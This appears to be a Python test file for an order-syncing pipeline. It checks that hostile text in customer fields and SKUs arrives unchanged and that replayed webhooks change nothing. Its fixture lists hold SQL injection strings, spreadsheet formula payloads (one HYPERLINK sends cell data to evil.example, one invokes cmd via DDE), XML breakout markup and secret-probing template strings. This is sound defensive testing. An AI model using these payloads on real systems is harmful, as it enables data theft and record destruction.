"""Customers who write what they like, and strangers who repeat what they heard: all of it is data, none of it commands."""

import asyncio
from typing import Any

import pytest

from cogent_pipelines.adapters.warehouses.peoplevox.csv_table import one_line
from cogent_pipelines_tests.journeys.test_bad_data import sell, stocked
from cogent_pipelines_tests.journeys.verdict import faults
from cogent_pipelines_tests.journeys.world import NAME, World

EVIL = {
    "statements": "'; drop table storefront_order; --",
    "more statements": '"); DELETE FROM sales_order WHERE ("1"="1',
    "a formula": '=HYPERLINK("https://evil.example?x="&A1,"pay")',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quotes and commas": 'Ada "the first", O\'Neill,, "',
    "line breaks": "12 Row Lane\r\nSO-9999,EVIL,1\n",
    "a null byte": "Ada\x00King",
    "right to left": "\u202egniK adA\u202c \u0645\u0631\u062d\u0628\u0627",
    "emoji": "🧦🏴\u200d☠️ Zoë",
    "markup": "<b>&amp;</b>]]></CsvData><Action>0</Action>",
    "templates": "{{ env.SHOP_SECRET }} ${SHOP_SECRET} %(password)s {0}",
    "backslashes": "C:\\new\\table \\x00 \\u0000 \\",
    "nothing to see": "\u200b\ufeff\u00a0",
}
SKUS = {
    "a quote": "TEE 10'",
    "commas": "TEE,RED,L",
    "statements": "X'; DROP TABLE stock_level; --",
    "a formula": "=1+1",
    "emoji": "SOCK-🧦",
    "right to left": "\u202eEET",
    "markup": "<TEE>&",
    "a backslash": "A\\B",
    "a double quote": 'FRAME 10"',
    "a per cent": "100%_COTTON",
}


def an_evil_order(text: str) -> dict[str, Any]:
    """The text in every field that somebody else fills in."""
    address = {
        "first_name": text,
        "last_name": text,
        "company": text,
        "address1": f"1 {text}",
        "city": f"York {text}",
        "zip": f"YO1 7HH {text}",
        "country_code": "GB",
        "phone": text,
    }
    return {
        "email": text,
        "phone": text,
        "note": text,
        "po_number": text,
        "source_name": text,
        "tags": [text],
        "attributes": {text: text},
        "lines": [{"sku": "TEE-S", "quantity": 1, "attributes": {text: text}}],
        "shipping": {"title": text, "code": text, "price": "3.95"},
        "discounts": [{"code": text, "percentage": 10}],
        "shipping_address": address,
        "billing_address": address,
    }


def test_what_customers_write_arrives_as_it_was_written(world):
    """In every field: through the ledger, into the warehouse and back to the shop, beside an order like any other."""
    evil = {kind: world.place(**an_evil_order(text)) for kind, text in EVIL.items()}
    world.place()

    world.run_until_quiet()

    assert ([], set(), []) == (faults(world), world.cases(), world.stopped)
    assert {"FULFILLED"} == {order.fulfilment_status for order in world.shop.shop.orders.values()}
    held = {kind: world.tenant.warehouse.orders[world.number_of(order)] for kind, order in evil.items()}
    written = {kind: text.replace("\x00", "") for kind, text in EVIL.items()}
    assert {kind: as_the_warehouse_has_it(text) for kind, text in written.items()} == {
        kind: {name: order.text(name) for name in as_the_warehouse_has_it("")} for kind, order in held.items()
    }
    [*kept] = world.ledger.orders.get(NAME, [str(order.id) for order in evil.values()])
    assert {(text, text, text) for text in written.values()} == {
        (order.note, order.email, order.lines[0].attributes[0].value) for order in kept
    }


def as_the_warehouse_has_it(text: str) -> dict[str, str]:
    """On one line, and a name no longer than the field."""
    return {
        "ContactName": one_line(f"{text} {text}")[:100].rstrip(),
        "Email": one_line(text),
        "ShippingAddressCity": one_line(f"York {text}"),
        "ShippingAddressPostcode": one_line(f"YO1 7HH {text}"),
    }


def test_skus_may_hold_anything_that_fits_on_a_line(world):
    """Sold, shipped, told and counted under their own names."""
    for sku in SKUS.values():
        sell(world, sku, stock=9)
        stocked(world, sku, 9)
    orders = [world.place((sku, 2)) for sku in SKUS.values()]
    together = world.place(*((sku, 1) for sku in SKUS.values()))

    world.run_until_quiet()

    assert ([], set(), []) == (faults(world), world.cases(), world.stopped)
    assert {"FULFILLED"} == {order.fulfilment_status for order in [*orders, together]}
    assert dict.fromkeys(SKUS.values(), 1) == world.tenant.truth.ordered_units(world.number_of(together))


@pytest.mark.parametrize("sku", ["TWO\nLINES", "TAB\tBED", "BELL\x07", "L" * 600])
def test_a_sku_that_no_warehouse_could_hold_stops_its_own_order_only(world, sku):
    """Its case names what is wrong with it."""
    sell(world, sku, stock=9)
    bad, good = world.place((sku, 1)), world.place()

    world.run_until_quiet()

    assert ("FULFILLED", 0) == (good.fulfilment_status, world.tenant.truth.times_created(world.number_of(bad)))
    assert world.cases_of(bad)
    assert [] == world.stopped


class Ear:
    """Hears every delivery on its way to the gateway, and can say it again."""

    def __init__(self, world: World) -> None:
        self._world = world
        self.heard: list[tuple[str, dict[str, str], bytes]] = []
        deliver = world._to_gateway

        async def listen(url: str, headers: Any, body: bytes) -> int:
            self.heard.append((url, dict(headers), body))
            return await deliver(url, headers, body)

        world._to_gateway = listen
        world.shop.webhooks.deliver = listen
        self._deliver = deliver

    def say_again(self, *, at_once: int = 1) -> set[int]:
        """Every delivery, several times at once; the statuses that came back."""

        async def repeat() -> set[int]:
            statuses = set()
            for url, headers, body in list(self.heard):
                statuses |= set(await asyncio.gather(*(self._deliver(url, headers, body) for _ in range(at_once))))
            return statuses

        return self._world.runner.run(repeat())


def books(world: World) -> tuple[Any, ...]:
    """All that both vendors and the ledger say."""
    warehouse = world.tenant.warehouse
    sent = {number: (order.stage, world.tenant.truth.times_created(number)) for number, order in warehouse.orders.items()}
    told = {order.id: (order.updated_at, len(order.fulfilments)) for order in world.shop.shop.orders.values()}
    return world.signature(), sent, told


def test_every_event_ever_received_said_again_changes_nothing(world):
    """A stranger who heard all of a day, or a vendor who sends it all once more."""
    ear = Ear(world)
    orders = [world.place(("TEE-S", 1), ("SOCK-L", 2)) for _ in range(6)]
    world.run_until_quiet()
    before = books(world)
    assert len(ear.heard) > len(orders)

    statuses = ear.say_again()
    world.run_until_quiet()

    assert {200} == statuses
    assert before == books(world)
    assert ([], set()) == (faults(world), world.cases())


def test_sixty_four_deliveries_of_one_order_at_once_make_one_order(world):
    """One row in the inbox, one order, one sales order, one parcel."""
    ear = Ear(world)
    world.run_until_quiet()
    ear.heard.clear()
    order = world.place()
    world.deliver()

    assert {200} == ear.say_again(at_once=64)
    world.run_until_quiet()

    with world.ledger.pool.session() as session:
        rows = session.execute("select deliveries from inbox where event_id = %s", [_event_id(ear.heard[0][1])]).fetchall()
    assert [(65,)] == rows
    assert ([], 1, 1) == (faults(world), world.tenant.truth.times_created(world.number_of(order)), len(order.fulfilments))


def test_a_days_events_said_again_after_three_days_are_refused(world):
    """A vendor's own retries end after two; whatever comes later is somebody else's, and changes nothing either way."""
    ear = Ear(world)
    world.place()
    world.run_until_quiet()
    ear.heard = [heard for heard in ear.heard if heard[0].endswith("/storefront")]
    world.clock.advance(3 * 24 * 3600)
    world.run_until_quiet()
    before = books(world)

    assert {400} == ear.say_again()
    assert before == books(world)


def _event_id(headers: dict[str, str]) -> str:
    return next(value for name, value in headers.items() if name.lower().endswith("event-id"))
